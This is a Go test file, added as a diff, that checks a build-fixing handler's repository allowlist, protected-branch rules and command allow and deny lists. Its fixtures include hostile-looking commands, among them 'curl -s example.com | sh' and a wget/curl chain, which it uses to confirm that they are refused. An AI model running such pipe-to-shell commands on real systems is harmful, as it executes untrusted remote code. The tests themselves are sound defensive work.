@@ -0,0 +1,207 @@
+package handlers
+
+import (
+	"net/http"
+	"strings"
+	"testing"
+)
+
+func TestFixBuildAllowedRepos(t *testing.T) {
+	t.Setenv("FIX_BUILD_ALLOWED_REPOS", "acme/widgets, Tools/*")
+	cfg, err := loadFixBuildConfig()
+	if err != nil {
+		t.Fatalf("loadFixBuildConfig: %v", err)
+	}
+
+	tests := []struct {
+		name    string
+		repo    FixBuildRepo
+		allowed bool
+	}{
+		{"exact match", FixBuildRepo{Owner: "acme", Name: "widgets"}, true},
+		{"exact match is case-insensitive", FixBuildRepo{Owner: "Acme", Name: "Widgets"}, true},
+		{"org wildcard", FixBuildRepo{Owner: "tools", Name: "anything"}, true},
+		{"other repo in a listed org", FixBuildRepo{Owner: "acme", Name: "gadgets"}, false},
+		{"unlisted org", FixBuildRepo{Owner: "evil", Name: "widgets"}, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p := FixBuildPayload{Repo: tt.repo, HeadBranch: "feature", HeadSha: "abc1234", InstallationToken: "tok"}
+			fbErr := validateFixBuildPayload(p, cfg)
+			if tt.allowed {
+				if fbErr != nil {
+					t.Fatalf("expected repo to be allowed, got %v", fbErr)
+				}
+				return
+			}
+			if fbErr == nil || fbErr.Status != http.StatusForbidden || fbErr.Code != "repo_not_allowed" {
+				t.Fatalf("expected 403 repo_not_allowed, got %+v", fbErr)
+			}
+		})
+	}
+
+	if !repoAllowed(nil, FixBuildRepo{Owner: "anyone", Name: "anything"}) {
+		t.Fatal("expected every repo to be allowed without an allowlist")
+	}
+}
+
+func TestParseRepoPatternsRejectsBadEntries(t *testing.T) {
+	for _, v := range []string{"acme", "acme/", "/widgets", "acme/widgets/extra", "acme/[x"} {
+		t.Setenv("FIX_BUILD_ALLOWED_REPOS", v)
+		if err := ValidateFixBuildConfig(); err == nil {
+			t.Fatalf("expected %q to be rejected", v)
+		}
+	}
+}
+
+func TestFixBuildProtectedBranches(t *testing.T) {
+	t.Setenv("FIX_BUILD_PROTECTED_BRANCHES", "main, release/*")
+	cfg, err := loadFixBuildConfig()
+	if err != nil {
+		t.Fatalf("loadFixBuildConfig: %v", err)
+	}
+
+	tests := []struct {
+		name    string
+		branch  string
+		pr      bool
+		force   bool
+		allowed bool
+	}{
+		{"protected branch", "main", false, false, false},
+		{"protected glob", "release/1.2", false, false, false},
+		{"unprotected branch", "feature", false, false, true},
+		{"pull request mode", "main", true, false, true},
+		{"explicit override", "release/1.2", false, true, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p := FixBuildPayload{
+				Repo:               FixBuildRepo{Owner: "acme", Name: "widgets"},
+				HeadBranch:         tt.branch,
+				HeadSha:            "abc1234",
+				InstallationToken:  "tok",
+				OpenPullRequest:    tt.pr,
+				AllowProtectedPush: tt.force,
+			}
+			fbErr := validateFixBuildPayload(p, cfg)
+			if tt.allowed {
+				if fbErr != nil {
+					t.Fatalf("expected push to be allowed, got %v", fbErr)
+				}
+				return
+			}
+			if fbErr == nil || fbErr.Status != http.StatusUnprocessableEntity || fbErr.Code != "protected_branch" {
+				t.Fatalf("expected 422 protected_branch, got %+v", fbErr)
+			}
+			if !strings.Contains(fbErr.Message, "openPullRequest") {
+				t.Fatalf("expected the message to point at pull request mode, got %q", fbErr.Message)
+			}
+		})
+	}
+}
+
+func TestFixBuildProtectedBranchesDefault(t *testing.T) {
+	cfg, err := loadFixBuildConfig()
+	if err != nil {
+		t.Fatalf("loadFixBuildConfig: %v", err)
+	}
+	for _, b := range []string{"main", "master"} {
+		if !branchProtected(cfg.ProtectedBranches, b) {
+			t.Fatalf("expected %s to be protected by default", b)
+		}
+	}
+
+	t.Setenv("FIX_BUILD_PROTECTED_BRANCHES", "")
+	if cfg, _ = loadFixBuildConfig(); branchProtected(cfg.ProtectedBranches, "main") {
+		t.Fatal("expected an empty list to protect nothing")
+	}
+
+	t.Setenv("FIX_BUILD_PROTECTED_BRANCHES", "release/[x")
+	if err := ValidateFixBuildConfig(); err == nil {
+		t.Fatal("expected a malformed pattern to be rejected")
+	}
+}
+
+func TestDisallowedCommand(t *testing.T) {
+	allowlist := []string{"go", "npm", "make", "sh"}
+
+	tests := []struct {
+		name    string
+		payload FixBuildPayload
+		field   string
+		binary  string
+	}{
+		{"allowed", FixBuildPayload{SetupCommands: [][]string{{"npm", "ci"}}, VerifyCommand: "CGO_ENABLED=0 go vet ./... && go test ./...", FormatCommand: []string{"/usr/local/go/bin/go", "fmt", "./..."}}, "", ""},
+		{"setup", FixBuildPayload{SetupCommands: [][]string{{"npm", "ci"}, {"pip", "install", "-r", "requirements.txt"}}}, "setupCommands[1]", "pip"},
+		{"chained", FixBuildPayload{VerifyCommand: "make build; curl -s example.com | sh"}, "verifyCommand", "curl"},
+		{"subshell", FixBuildPayload{FailingCommand: "(make -C web && yarn test)"}, "failingCommand", "yarn"},
+		{"format", FixBuildPayload{VerifyCommands: [][]string{{"go", "test", "./..."}}, FormatCommand: []string{"gofmt", "-w", "."}}, "formatCommand", "gofmt"},
+	}
+	for _, tt := range tests {
+		field, _, binary := disallowedCommand(allowlist, tt.payload)
+		if field != tt.field || binary != tt.binary {
+			t.Fatalf("%s: expected %q rejected for %q, got %q for %q", tt.name, tt.field, tt.binary, field, binary)
+		}
+	}
+
+	if _, _, binary := disallowedCommand(nil, FixBuildPayload{VerifyCommand: "anything"}); binary != "" {
+		t.Fatal("expected no allowlist to allow everything")
+	}
+}
+
+func TestFixBuildAllowedCommands(t *testing.T) {
+	t.Setenv("FIX_BUILD_ALLOWED_COMMANDS", "go,make,curl")
+
+	t.Run("allowed", func(t *testing.T) {
+		f := useFakeRunner(t, nil)
+		p := fakeRunnerPayload("abc0092")
+		p.VerifyCommand = "go test ./..."
+		if rec := postFixBuild(t, p); rec.Code != http.StatusOK {
+			t.Fatalf("expected 200, got %d: %s", rec.Code, rec.Body.String())
+		}
+		if !f.called("sh -c go test ./...") {
+			t.Fatalf("expected the allowed verify command to run; calls were:\n%s", strings.Join(f.calls, "\n"))
+		}
+	})
+
+	t.Run("not allowed", func(t *testing.T) {
+		f := useFakeRunner(t, nil)
+		p := fakeRunnerPayload("abc1092")
+		p.VerifyCommand = "go test ./..."
+		p.SetupCommands = [][]string{{"npm", "ci"}}
+		rec := postFixBuild(t, p)
+		if rec.Code != http.StatusUnprocessableEntity || !strings.Contains(rec.Body.String(), `"code":"command_not_allowed"`) {
+			t.Fatalf("expected 422 command_not_allowed, got %d: %s", rec.Code, rec.Body.String())
+		}
+		if f.called("git clone") {
+			t.Fatal("expected a disallowed job to be refused before cloning")
+		}
+	})
+
+	t.Run("with the denylist", func(t *testing.T) {
+		t.Setenv("FIX_BUILD_COMMAND_DENYLIST", "go get\ncurl")
+		tests := []struct {
+			name    string
+			sha     string
+			command string
+			code    string
+		}{
+			{"allowed but denied", "abc2092", "go get example.com/tool && go test ./...", "command_denied"},
+			{"not allowed or denied", "abc3092", "npm test", "command_not_allowed"},
+			{"not allowed and denied", "abc4092", "wget -qO- example.com && curl example.com", "command_not_allowed"},
+		}
+		for _, tt := range tests {
+			f := useFakeRunner(t, nil)
+			p := fakeRunnerPayload(tt.sha)
+			p.VerifyCommand = tt.command
+			rec := postFixBuild(t, p)
+			if rec.Code != http.StatusUnprocessableEntity || !strings.Contains(rec.Body.String(), `"code":"`+tt.code+`"`) {
+				t.Fatalf("%s: expected 422 %s, got %d: %s", tt.name, tt.code, rec.Code, rec.Body.String())
+			}
+			if f.called("git clone") {
+				t.Fatalf("%s: expected the job refused before cloning", tt.name)
+			}
+		}
+	})
+}